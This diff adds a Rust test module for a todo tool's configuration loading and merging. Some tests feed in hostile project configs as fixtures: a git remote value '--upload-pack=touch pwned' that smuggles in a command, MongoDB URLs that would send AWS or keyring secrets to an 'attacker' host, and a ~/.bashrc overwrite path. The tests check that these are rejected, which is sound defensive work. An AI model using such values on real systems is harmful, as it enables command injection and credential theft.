+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_default_config() {
+        let config = AppConfig::default();
+        assert_eq!(config.storage_type, StorageType::Local);
+        assert_eq!(config.local_config.path, "~/.quill/storage/todos.json");
+        assert_eq!(config.mongo_config.database, "quill");
+        assert_eq!(config.open_task_soft_limit, 50);
+    }
+
+    #[test]
+    fn test_soft_limit_defaults_when_missing() {
+        let json = r#"{"storage_type":"Local"}"#;
+        let config: AppConfig = serde_json::from_str(json).unwrap();
+        assert_eq!(config.open_task_soft_limit, 50);
+        assert_eq!(config.trash_retention, 20);
+        assert_eq!(config.confirm_threshold, 5);
+    }
+
+    #[test]
+    fn test_status_line_segments() {
+        let config: AppConfig = toml::from_str("[status_line]\nright = [\"save\", \"help\"]").unwrap();
+        assert_eq!(config.status_line.left, StatusLineConfig::default().left);
+        assert_eq!(config.status_line.right, vec![StatusSegment::Save, StatusSegment::Help]);
+        assert!(toml::from_str::<AppConfig>("[status_line]\nleft = [\"clock\"]").is_err());
+    }
+
+    #[test]
+    fn test_undo_depth_alias() {
+        let config: AppConfig = toml::from_str("undo_depth = 50").unwrap();
+        assert_eq!(config.trash_retention, 50);
+    }
+
+    #[test]
+    fn test_storage_type_default() {
+        let storage_type = StorageType::default();
+        assert_eq!(storage_type, StorageType::Local);
+    }
+
+    #[test]
+    fn test_expand_local_path_with_tilde() {
+        let mut config = AppConfig::default();
+        config.local_config.path = "~/test/path".to_string();
+        let expanded = config.expand_local_path();
+        assert!(!expanded.starts_with("~"));
+    }
+
+    #[test]
+    fn test_expand_local_path_without_tilde() {
+        let mut config = AppConfig::default();
+        config.local_config.path = "/absolute/path".to_string();
+        let expanded = config.expand_local_path();
+        assert_eq!(expanded, "/absolute/path");
+    }
+
+    #[test]
+    fn test_config_serialization() {
+        let config = AppConfig::default();
+        let json = serde_json::to_string(&config).unwrap();
+        let deserialized: AppConfig = serde_json::from_str(&json).unwrap();
+        assert_eq!(config.storage_type, deserialized.storage_type);
+    }
+
+    #[test]
+    fn test_save_and_load_config() {
+        let temp_dir = TempDir::new().unwrap();
+        
+        // Set HOME environment variable and ensure it's used
+        let original_home = std::env::var("HOME").ok();
+        std::env::set_var("HOME", temp_dir.path());
+        
+        let mut original_config = AppConfig::default();
+        original_config.mongo_config.database = "test_db".to_string();
+        
+        // Save the config using the save method
+        original_config.save().unwrap();
+        
+        let loaded_config = AppConfig::load().unwrap();
+        assert_eq!(loaded_config.mongo_config.database, "test_db");
+        
+        // Restore original HOME if it existed
+        if let Some(home) = original_home {
+            std::env::set_var("HOME", home);
+        } else {
+            std::env::remove_var("HOME");
+        }
+    }
+
+    #[test]
+    fn test_project_config_overrides_global() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join(ProjectConfig::FILE_NAME);
+        fs::write(&path, r#"
+storage_type = "MongoDB"
+context_scope = "Repo"
+default_tags = ["backend"]
+
+[mongo_config]
+connection_string = "mongodb://team.example.com:27017"
+
+[git_config]
+branch = "team-tasks"
+remote = "--upload-pack=touch pwned"
+
+[remote_config]
+url = "https://attacker.example.com"
+
+[[templates]]
+name = "release"
+tasks = ["Tag {branch}"]
+"#).unwrap();
+
+        let project = ProjectConfig::load_from(&path).unwrap().unwrap();
+        let merged = AppConfig::default().with_project(Some(&project));
+        assert_eq!(merged.git_config.branch, "team-tasks");
+        assert_eq!(merged.git_config.remote, "origin");
+        assert_eq!(merged.remote_config.url, RemoteConfig::default().url);
+
+        assert_eq!(merged.storage_type, StorageType::MongoDB);
+        assert_eq!(merged.mongo_config.connection_string, "mongodb://team.example.com:27017");
+        assert_eq!(merged.mongo_config.database, "quill");
+        assert_eq!(merged.context_scope, ContextScope::Repo);
+        assert_eq!(merged.default_tags, vec!["backend"]);
+        assert_eq!(merged.templates.len(), 1);
+    }
+
+    #[test]
+    fn test_tag_rules() {
+        let config: AppConfig = toml::from_str(r#"
+default_tags = ["team"]
+
+[[tag_rules]]
+context = "acme:infra-*"
+tags = ["infra", "team"]
+
+[[tag_rules]]
+text = "*flaky*"
+tags = ["ci"]
+
+[[tag_rules]]
+context = "acme:*"
+text = "*deploy*"
+tags = ["ops"]
+
+[[tag_rules]]
+tags = ["never"]
+"#).unwrap();
+
+        assert_eq!(config.tags_for("acme:infra-tools:main", "Fix Flaky test"), vec!["team", "infra", "ci"]);
+        assert_eq!(config.tags_for("acme:web:main", "Deploy to staging"), vec!["team", "ops"]);
+        assert_eq!(config.tags_for("other:web:main", "Deploy to staging"), vec!["team"]);
+    }
+
+    #[test]
+    fn test_project_config_cannot_reference_secrets() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join(ProjectConfig::FILE_NAME);
+        fs::write(&path, "[mongo_config]\nconnection_string = \"mongodb://${AWS_SECRET_ACCESS_KEY}@attacker/\"\n").unwrap();
+        assert!(matches!(ProjectConfig::load_from(&path), Err(QuillError::Validation(_))));
+        fs::write(&path, "[mongo_config]\nconnection_string = \"mongodb://app:${keyring:mongodb}@attacker/\"\n").unwrap();
+        assert!(matches!(ProjectConfig::load_from(&path), Err(QuillError::Validation(_))));
+    }
+
+    #[test]
+    fn test_hostile_project_config_is_refused() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join(ProjectConfig::FILE_NAME);
+        for hostile in [
+            "[local_config]\npath = \"~/.bashrc\"\n",
+            "[mongo_config]\nconnection_string = \"mongodb://attacker/\"\ntls_allow_invalid_certificates = true\n",
+            "[mongo_config]\ntls_ca_file = \"/tmp/attacker-ca.pem\"\n",
+            "[mongo_config]\nauth_mechanism = \"PLAIN\"\n",
+        ] {
+            fs::write(&path, hostile).unwrap();
+            assert!(matches!(ProjectConfig::load_from(&path), Err(QuillError::Validation(_))), "{}", hostile);
+        }
+
+        fs::write(&path, "[mongo_config]\nconnection_string = \"mongodb://team.example.com\"\ndatabase = \"team\"\ntls = true\n").unwrap();
+        assert!(ProjectConfig::load_from(&path).unwrap().is_some());
+    }
+
+    #[test]
+    fn test_missing_project_config() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join(ProjectConfig::FILE_NAME);
+        assert!(ProjectConfig::load_from(&path).unwrap().is_none());
+    }
+
+    #[test]
+    fn test_resolve_context_repo_scope() {
+        let context = GitContext {
+            org: "acme".to_string(),
+            repo: "widgets".to_string(),
+            branch: "feature".to_string(),
+        };
+
+        let config = AppConfig::default();
+        assert_eq!(config.resolve_context(context.clone()).unwrap().context_key(), "acme:widgets:feature");
+
+        let config = AppConfig { context_scope: ContextScope::Repo, ..AppConfig::default() };
+        assert_eq!(config.resolve_context(context).unwrap().context_key(), "acme:widgets:*");
+    }
+
+    #[test]
+    fn test_branch_rules() {
+        let config = AppConfig {
+            branch_rules: vec![
+                BranchRule { pattern: "hotfix/*".to_string(), context: Some("hotfixes".to_string()), ignore: false },
+                BranchRule { pattern: "dependabot/*".to_string(), context: None, ignore: true },
+            ],
+            ..AppConfig::default()
+        };
+        let on_branch = |branch: &str| GitContext {
+            org: "acme".to_string(),
+            repo: "widgets".to_string(),
+            branch: branch.to_string(),
+        };
+
+        assert_eq!(config.resolve_context(on_branch("hotfix/login")).unwrap().context_key(), "acme:widgets:hotfixes");
+        assert_eq!(config.resolve_context(on_branch("hotfix/crash")).unwrap().context_key(), "acme:widgets:hotfixes");
+        assert!(config.resolve_context(on_branch("dependabot/cargo/serde")).is_none());
+        assert_eq!(config.resolve_context(on_branch("main")).unwrap().context_key(), "acme:widgets:main");
+    }
+
+    #[test]
+    fn test_chord_bindings_keep_default_delete() {
+        let config: AppConfig = toml::from_str("[chords]\ncomplete_all = \"cc\"\n").unwrap();
+        assert_eq!(
+            config.chord_bindings(),
+            BTreeMap::from([("complete_all".to_string(), "cc".to_string()), ("delete".to_string(), "dd".to_string())])
+        );
+
+        let config: AppConfig = toml::from_str("[chords]\ndelete = \"\"\n").unwrap();
+        assert!(config.chord_bindings().is_empty());
+    }
+
+    #[test]
+    fn test_storage_rules_pick_backend_by_repository() {
+        let config: AppConfig = toml::from_str(
+            r#"
+            storage_type = "Local"
+
+            [[storage_rules]]
+            repo = "acme/*"
+            storage_type = "MongoDB"
+            mongo_config = { connection_string = "mongodb://team:27017", database = "acme", collection = "todos" }
+            "#,
+        )
+        .unwrap();
+        let in_repo = |org: &str, repo: &str| GitContext { org: org.to_string(), repo: repo.to_string(), branch: "main".to_string() };
+
+        assert_eq!(config.storage_rule(&in_repo("acme", "web")), Some(0));
+        let acme = config.for_context(&in_repo("acme", "web"));
+        assert_eq!(acme.storage_type, StorageType::MongoDB);
+        assert_eq!(acme.mongo_config.database, "acme");
+        assert_eq!(acme.local_config.path, config.local_config.path);
+
+        assert_eq!(config.storage_rule(&in_repo("me", "dotfiles")), None);
+        assert_eq!(config.for_context(&in_repo("me", "dotfiles")).storage_type, StorageType::Local);
+    }
+
+    #[test]
+    fn test_shared_config_sits_under_local_settings() {
+        let shared = SharedConfig::parse(
+            r#"
+            default_tags = ["team"]
+
+            [[branch_rules]]
+            pattern = "release/*"
+            context = "release"
+
+            [[templates]]
+            name = "release"
+            tasks = ["Team checklist"]
+
+            [[templates]]
+            name = "incident"
+            tasks = ["Page on-call"]
+
+            [status_map]
+            "In Review" = "InProgress"
+            Done = "NotStarted"
+            "#,
+        )
+        .unwrap();
+        let mut local = AppConfig::default();
+        local.branch_rules.push(BranchRule { pattern: "release/*".to_string(), context: None, ignore: true });
+        local.templates.push(TaskTemplate { name: "release".to_string(), tasks: vec!["My checklist".to_string()] });
+
+        let merged = local.with_shared(Some(&shared));
+        assert_eq!(merged.default_tags, vec!["team"]);
+        assert!(merged.branch_rules[0].ignore);
+        assert_eq!(merged.templates.iter().map(|t| t.tasks[0].as_str()).collect::<Vec<_>>(), vec!["My checklist", "Page on-call"]);
+        assert_eq!(merged.jira.status_for("In Review"), Some(TaskStatus::InProgress));
+        assert_eq!(merged.jira.status_for("Done"), Some(TaskStatus::Completed));
+        assert!(local.with_shared(None).templates.len() == 1);
+    }
+
+    #[test]
+    fn test_config_toml_round_trip() {
+        let mut config = AppConfig::default();
+        config.templates.push(TaskTemplate { name: "release".to_string(), tasks: vec!["Tag it".to_string()] });
+        config.default_tags = vec!["infra".to_string()];
+
+        let content = toml::to_string_pretty(&config).unwrap();
+        let parsed: AppConfig = toml::from_str(&content).unwrap();
+        assert_eq!(parsed.templates, config.templates);
+        assert_eq!(parsed.default_tags, config.default_tags);
+    }
+
+    #[test]
+    fn test_load_prefers_toml_over_legacy_json() {
+        let temp_dir = TempDir::new().unwrap();
+
+        fs::write(temp_dir.path().join("config.json"), r#"{"mongo_config":{"database":"from_json"}}"#).unwrap();
+        let config = AppConfig::load_from_dir(temp_dir.path()).unwrap();
+        assert_eq!(config.mongo_config.database, "from_json");
+
+        fs::write(temp_dir.path().join("config.toml"), "[mongo_config]\ndatabase = \"from_toml\"\n").unwrap();
+        let config = AppConfig::load_from_dir(temp_dir.path()).unwrap();
+        assert_eq!(config.mongo_config.database, "from_toml");
+    }
+
+    #[test]
+    fn test_env_overrides() {
+        let env: std::collections::HashMap<&str, &str> = [
+            ("QUILL_STORAGE_TYPE", "MongoDB"),
+            ("QUILL_MONGO_URI", "mongodb://ci:27017"),
+            ("QUILL_LOCAL_PATH", "/tmp/quill.json"),
+        ]
+        .into_iter()
+        .collect();
+
+        let mut config = AppConfig::default();
+        config.apply_env_overrides(|name| env.get(name).map(|v| v.to_string())).unwrap();
+
+        assert_eq!(config.storage_type, StorageType::MongoDB);
+        assert_eq!(config.mongo_config.connection_string, "mongodb://ci:27017");
+        assert_eq!(config.local_config.path, "/tmp/quill.json");
+        assert_eq!(config.mongo_config.database, "quill");
+    }
+
+    #[test]
+    fn test_invalid_storage_type_override() {
+        let mut config = AppConfig::default();
+        let result = config.apply_env_overrides(|name| (name == "QUILL_STORAGE_TYPE").then(|| "sqlite".to_string()));
+        assert!(result.is_err());
+    }
+}